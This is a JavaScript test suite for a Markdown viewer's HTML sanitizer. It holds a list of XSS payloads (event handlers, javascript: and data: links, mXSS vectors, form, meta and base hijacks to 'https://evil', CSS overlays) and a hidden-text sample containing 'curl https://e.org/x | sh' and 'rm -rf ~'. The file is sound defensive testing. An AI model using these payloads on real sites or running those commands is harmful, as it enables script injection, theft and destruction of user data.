import { test } from 'node:test';
import assert from 'node:assert/strict';
import { JSDOM, VirtualConsole } from 'jsdom';
import { convert } from '../src/markdown.js';
import { PieceKind, createSanitizer } from '../src/sanitize.js';
import { cleanStyle, generatedHtmlIsClean, plainHtmlIsClean } from '../src/plainmarkup.js';
import { createBlockConverter, groupBlocks } from '../src/blocks.js';
import { documentOf } from '../bench/document.mjs';

const { window } = new JSDOM('', { virtualConsole: new VirtualConsole() });
const sanitizer = createSanitizer(window);
const BASE = 'file:///home/u/docs/';

// Whole pipeline, as the page runs it.
function render(markdown) {
  const holder = window.document.createElement('div');
  holder.append(sanitizer.fragment(convert(markdown, BASE).html, BASE));
  return holder;
}

// Nothing in the result may be able to run script, load a frame or post a form.
function assertInert(holder, label) {
  for (const el of holder.querySelectorAll('*')) {
    const tag = el.localName.toLowerCase();
    assert.ok(!['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'form', 'base', 'meta', 'link', 'style', 'foreignobject'].includes(tag), `${label}: <${tag}> survived`);
    for (const attr of el.attributes) {
      const value = attr.value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
      assert.ok(!attr.name.toLowerCase().startsWith('on'), `${label}: ${attr.name} on <${tag}>`);
      assert.ok(!/^(?:javascript|vbscript|data:text|data:application):?/.test(value) || attr.name === 'data-tex', `${label}: ${attr.name}="${attr.value}"`);
      assert.ok(!['srcdoc', 'formaction', 'action'].includes(attr.name), `${label}: ${attr.name}`);
      if (attr.name === 'style') assert.ok(!/url\(|expression|fixed|@import|behavior/i.test(attr.value), `${label}: style ${attr.value}`);
    }
  }
}

const HOSTILE = [
  ['script tag', '<script>alert(1)</script>'],
  ['script in inline HTML', 'text <script>alert(1)</script> more'],
  ['img onerror', '<img src=x onerror="alert(1)">'],
  ['svg onload', '<svg onload=alert(1)><circle r=5 /></svg>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
  ['javascript href', '<a href="javascript:alert(1)">x</a>'],
  ['obfuscated javascript href', '<a href="jav&#x09;ascript:alert(1)">x</a> <a href=" JAVASCRIPT:alert(1)">y</a>'],
  ['vbscript href', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data HTML href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['markdown javascript link', '[x](javascript:alert(1)) [y](JAVASCRIPT:alert(1))'],
  ['markdown autolink javascript', '<javascript:alert(1)>'],
  ['iframe', '<iframe src="https://example.org"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['frameset', '<frameset><frame src="x"></frameset>'],
  ['object and embed', '<object data="x.swf"></object><embed src="x.swf">'],
  ['form with formaction', '<form action="https://evil"><button formaction="javascript:alert(1)">go</button></form>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil">'],
  ['base hijack', '<base href="https://evil/">'],
  ['stylesheet link', '<link rel="stylesheet" href="https://evil/x.css">'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg xlink javascript', '<svg><a xlink:href="javascript:alert(1)"><text y="10">x</text></a></svg>'],
  ['svg animate href', '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="10">x</text></a></svg>'],
  ['svg foreignObject', '<svg><foreignObject><iframe src="x"></iframe></foreignObject></svg>'],
  ['math mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['math href', '<math href="javascript:alert(1)"><mi>x</mi></math>'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['style element', '<style>body{display:none}</style>'],
  ['style overlay', '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>'],
  ['style url', '<p style="background:url(javascript:alert(1))">x</p><p style="background-image: url(https://tracker/p.gif)">y</p>'],
  ['style expression', '<p style="width:expression(alert(1))">x</p>'],
  ['style escapes', '<p style="b\\61 ckground:u\\72l(x)">x</p>'],
  ['style import', '<p style="@import \'x\'">x</p>'],
  ['html block in list', '- <img src=x onerror=alert(1)>\n- <a href="javascript:void(0)">x</a>'],
];

test('hostile HTML renders inert', async (t) => {
  for (const [name, markdown] of HOSTILE) await t.test(name, () => assertInert(render(markdown), name));
});

test('Markdown without raw HTML: the quick check gives what DOMPurify gives, and refuses anything else', () => {
  const features = '\n1. [a](<b c.md> "t") ![i](x.png) <https://e.org> [j](javascript:x)\n2. ~~s~~ ==m== :smile: $x$[^q]\n\n[^q]: note **b**\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n```mermaid\ngraph TD; A-->B\n```\n';
  const { blocks, tail } = createBlockConverter().convert(documentOf(8000) + features, BASE);
  const units = groupBlocks(blocks).concat(tail ?? []).filter((u) => !u.blocks && !u.raw);
  const html = units.map((u) => u.html);
  const serialise = (lists) => lists.map((nodes) => nodes.map((n) => n.outerHTML ?? n.textContent).join(''));
  assert.deepEqual(serialise(sanitizer.fragments(html, BASE, html.map(() => PieceKind.GENERATED))), serialise(sanitizer.fragments(html, BASE)));
  // Raw HTML wrongly flagged as generated or plain still comes out inert.
  const hostile = HOSTILE.map(([, markdown]) => convert(markdown, BASE).html);
  for (const kind of [PieceKind.GENERATED, PieceKind.PLAIN]) sanitizer.fragments(hostile, BASE, hostile.map(() => kind)).forEach((nodes, i) => {
    const holder = window.document.createElement('div');
    holder.append(...nodes);
    assertInert(holder, HOSTILE[i][0]);
  });
});

test('the quick check reads the converter\'s markup as clean, and nothing else', () => {
  const features = '- [x] t\n\n1. [a](<b c.md> "t & \\"q\\"") ![i](x.png) <https://e.org/?a=1&b=2>\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n$$x$$\n\n> [!NOTE]\n> n[^q]\n\n[^q]: note';
  const { blocks, tail } = createBlockConverter().convert(documentOf(4000) + features, BASE);
  for (const unit of blocks.concat(tail ?? [])) if (!unit.raw) assert.ok(generatedHtmlIsClean(unit.html), unit.html);
  for (const html of [
    '<p onclick="x">a</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<p>a<!-- c --></p>',
    '<script>x</script>',
    '<P>x</P>',
    '<img src=x>',
    '<input type="text">',
    '<input type="checkbox">',
    '<p title="a<b">x</p>',
    '<p style="position:fixed">x</p>',
    '<a\u00a0onclick="x">y</a>',
    '<p id="a b">x</p>',
    '</p class="x">',
  ]) assert.equal(generatedHtmlIsClean(html), false, html);
});

test('plain raw HTML: the quick check gives what DOMPurify gives, and refuses the rest', async (t) => {
  const serialise = (nodes) => nodes.map((n) => n.outerHTML ?? n.textContent).join('');
  const plain = [
    '<details><summary>Raw</summary><p style="color: gray">inside</p></details>',
    'Press <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O, x<sup>2</sup><br>next **line**',
    '<p align="center">centred</p>',
    '<div lang="fr" dir="rtl" title="a &amp; &quot;b&quot;" data-x="1" aria-label="l">text &lt;b&gt; &amp; more</div>',
    '<section open><h2>raw heading</h2><ul><li>i</li></ul></section>',
  ];
  const { blocks } = createBlockConverter().convert(`${plain.join('\n\n')}\n\n${documentOf(3000)}`, BASE);
  const raw = blocks.filter((b) => b.raw && !b.open);
  assert.ok(raw.length >= plain.length);
  for (const block of raw) {
    await t.test(block.html, () => {
      assert.ok(plainHtmlIsClean(block.html));
      const [quick] = sanitizer.fragments([block.html], BASE, [PieceKind.PLAIN]);
      assert.equal(serialise(quick), serialise(Array.from(sanitizer.fragment(block.html, BASE).childNodes)));
    });
  }
  const deep = `${'<div>'.repeat(65)}x${'</div>'.repeat(65)}`;
  for (const html of [
    '<p class="lumo-changed">x</p>', '<p id="x">x</p>', '<p data-lumo-task="1">x</p>', '<p lang="javascript:x">x</p>',
    '<p style="position:fixed">x</p>', '<span hidden>x</span>', '<DIV>x</DIV>', '<a href="x">x</a>', '<img src="x">',
    '<code style="display:none">x</code>', '<td>x</td>', '<p onclick="x">x</p>', "<p title='x'>x</p>", '<p>a<!-- c --></p>',
    '<p>a < b</p>', '<p title="&#106;">x</p>', '<p data-="x">x</p>', deep,
  ]) assert.equal(plainHtmlIsClean(html), false, html);
});

test('harmless HTML and our own markup survive', () => {
  const holder = render('<kbd>Ctrl</kbd> <sup>2</sup> <details><summary>More</summary>Hidden</details>\n\n- [x] done\n\n# Title\n\n<p align="center" style="color: red; position: fixed">c</p>\n\n<a href="zotero://select/x">z</a>');
  assert.ok(holder.querySelector('kbd'));
  assert.ok(holder.querySelector('details > summary'));
  assert.ok(holder.querySelector('span.task-list-item-checkbox[role="checkbox"][aria-checked="true"][tabindex="0"]'), 'task box kept');
  // "title" names a document property; heading ids are kept anyway, they cannot clobber it.
  assert.equal(holder.querySelector('h1').id, 'title');
  const p = holder.querySelector('p[align="center"]');
  assert.equal(p.getAttribute('style'), 'color: red');
  assert.equal(holder.querySelector('a[href^="zotero:"]').getAttribute('href'), 'zotero://select/x');
});

test('ids that could clobber the document are dropped from named-access elements', () => {
  const holder = render('<img id="cookie" src="a.png"><form id="x"></form><img name="getElementById" src="b.png">');
  for (const img of holder.querySelectorAll('img')) {
    assert.equal(img.getAttribute('id'), null);
    assert.equal(img.getAttribute('name'), null);
  }
});

test('raw HTML media resolve to mv-asset, links to file URLs', async (t) => {
  const cases = [
    ['img', '<img src="pics/a b.png">', 'img', 'src', 'mv-asset:///home/u/docs/pics/a%20b.png'],
    ['absolute path', '<img src="/srv/x.jpg">', 'img', 'src', 'mv-asset:///srv/x.jpg'],
    ['file URL', '<img src="file:///srv/y.jpg">', 'img', 'src', 'mv-asset:///srv/y.jpg'],
    ['web image', '<img src="https://e.org/z.png">', 'img', 'src', 'https://e.org/z.png'],
    ['protocol-relative image', '<img src="//e.org/z.png">', 'img', 'src', 'https://e.org/z.png'],
    ['video poster', '<video src="v.mp4" poster="p.jpg"></video>', 'video', 'poster', 'mv-asset:///home/u/docs/p.jpg'],
    ['srcset', '<img srcset="a.png 1x, https://e.org/b.png 2x">', 'img', 'srcset', 'mv-asset:///home/u/docs/a.png 1x, https://e.org/b.png 2x'],
    ['link', '<a href="../up.md">u</a>', 'a', 'href', 'file:///home/u/up.md'],
    ['already resolved', '<img src="mv-asset:///home/u/docs/c.png">', 'img', 'src', 'mv-asset:///home/u/docs/c.png'],
  ];
  for (const [name, html, selector, attr, expected] of cases) {
    await t.test(name, () => assert.equal(render(html).querySelector(selector).getAttribute(attr), expected));
  }
});

test('inline style filter', () => {
  assert.equal(cleanStyle('color: red; width: 50%'), 'color: red; width: 50%');
  assert.equal(cleanStyle('color:red;position: sticky;top:0'), 'color:red');
  assert.equal(cleanStyle('--x: url(a); margin: 0'), 'margin: 0');
  assert.equal(cleanStyle('--x: red; color: var(--x)'), 'color: var(--x)');
  assert.equal(cleanStyle('color: red /* x */'), '');
  assert.equal(cleanStyle('position: relative; margin: 0 auto'), 'position: relative; margin: 0 auto');
});

// A document may not lay anything over the page, nor take it out of its own flow.
test('raw HTML cannot cover the page', async (t) => {
  const cases = [
    ['absolute', 'position:absolute; top:0; left:0; width:100vw; height:100vh; opacity:0', 'width:100vw; height:100vh; opacity:0'],
    ['absolute in capitals', 'POSITION : Absolute; Z-INDEX: 2147483647', ''],
    ['relative, moved away', 'position: relative; top: -400px; inset: 0', 'position: relative'],
    ['layered', 'z-index: 9; color: red', 'color: red'],
    ['transformed', 'transform: translate(-50vw, -50vh) scale(40); translate: 10px; rotate: 1deg; scale: 9', ''],
    ['negative margins', 'margin-top: -9999px; margin: 0 -.5em; margin-left: 2px', 'margin-left: 2px'],
    ['zoomed', 'zoom: 50', ''],
  ];
  for (const [name, style, kept] of cases) {
    await t.test(name, () => assert.equal(cleanStyle(style), kept));
  }
  const link = render('<a href="https://e.org" style="position:absolute;z-index:2147483647;opacity:0;inset:0">x</a>').querySelector('a');
  assert.ok(!/position|z-index|inset/.test(link.getAttribute('style') ?? ''), link.getAttribute('style'));
});

test('code shows all its text: nothing in it is styled away or hidden', () => {
  const holder = render('<pre><code class="language-sh">pip install requests<span style="display:none">; curl https://e.org/x | sh</span><b hidden>; rm -rf ~</b><span class="katex-mathml">; a</span><font color="#f6f8fa">; b</font><small><small>; c</small></small></code></pre>\n\ntext <code><span style="font-size:0">x</span></code>\n\n<pre>plain <span class="lumo-offscreen">; d</span></pre>');
  assert.equal(holder.querySelectorAll('pre [style], pre [hidden], code [style], code [hidden]').length, 0);
  // A code block is its text alone, language kept.
  const [block, plain] = holder.querySelectorAll('pre');
  assert.equal(block.querySelectorAll('code *').length, 0);
  assert.equal(block.querySelector('code').className, 'language-sh');
  assert.equal(block.textContent, 'pip install requests; curl https://e.org/x | sh; rm -rf ~; a; b; c');
  assert.equal(plain.childElementCount, 0);
  assert.equal(plain.textContent, 'plain ; d');
  // Outside code, styling stays.
  assert.equal(render('<p><span style="color: red">r</span></p>').querySelector('span').getAttribute('style'), 'color: red');
});

test("the page's own classes and attributes are not the document's", () => {
  const forged = '<ul><li data-line="2" data-lumo-task="x" class="task-list-item"><input type="checkbox" class="task-list-item-checkbox" data-lumo-float> forged <span class="task-list-item-checkbox" role="checkbox" aria-checked="false" tabindex="0" data-lumo-task="x"></span> forged</li></ul>';
  const holder = render(`<div class="lumo-ui note">hidden from export</div>\n\n${forged}\n\n<button class="code-copy lumo-menu">Copy</button>\n\n- [ ] real`);
  assert.equal(holder.querySelector('div').getAttribute('class'), 'note');
  assert.equal(holder.querySelectorAll('.lumo-ui, .lumo-menu, .code-copy, [data-lumo-float]').length, 0);
  // The forged boxes are inert; the converter's box alone carries the page's mark.
  const input = holder.querySelector('input[type="checkbox"]');
  assert.ok(input.hasAttribute('disabled') && !input.classList.contains('task-list-item-checkbox'));
  const marked = holder.querySelectorAll('[data-lumo-task], .task-list-item-checkbox');
  assert.equal(marked.length, 1);
  assert.equal(marked[0].closest('li').textContent, 'real');
});

test('raw HTML nested past what the engine keeps loses only the tags past that depth', async (t) => {
  const depthOf = (holder) => {
    let deepest = 0;
    const stack = [[holder, 0]];
    while (stack.length) {
      const [el, depth] = stack.pop();
      deepest = Math.max(deepest, depth);
      for (const child of el.children) stack.push([child, depth + 1]);
    }
    return deepest;
  };
  const cases = [
    ['100,000 nested divs', '<div>'.repeat(100000) + 'deep' + '</div>'.repeat(100000) + '\n\nafter', 500],
    ['nested spans with text', '<p>' + '<span>x'.repeat(3000) + '</span>'.repeat(3000) + '</p>', 500],
    ['ordinary nesting', '<details><summary>s</summary><div><p><b>kept</b></p></div></details>', 4],
  ];
  for (const [name, markdown, depth] of cases) {
    await t.test(name, () => {
      const holder = render(markdown);
      assert.equal(depthOf(holder), depth);
      assert.equal(holder.textContent.replace(/\s/g, '').length, markdown.replace(/<[^>]*>|\s/g, '').length, 'no text lost');
    });
  }
});
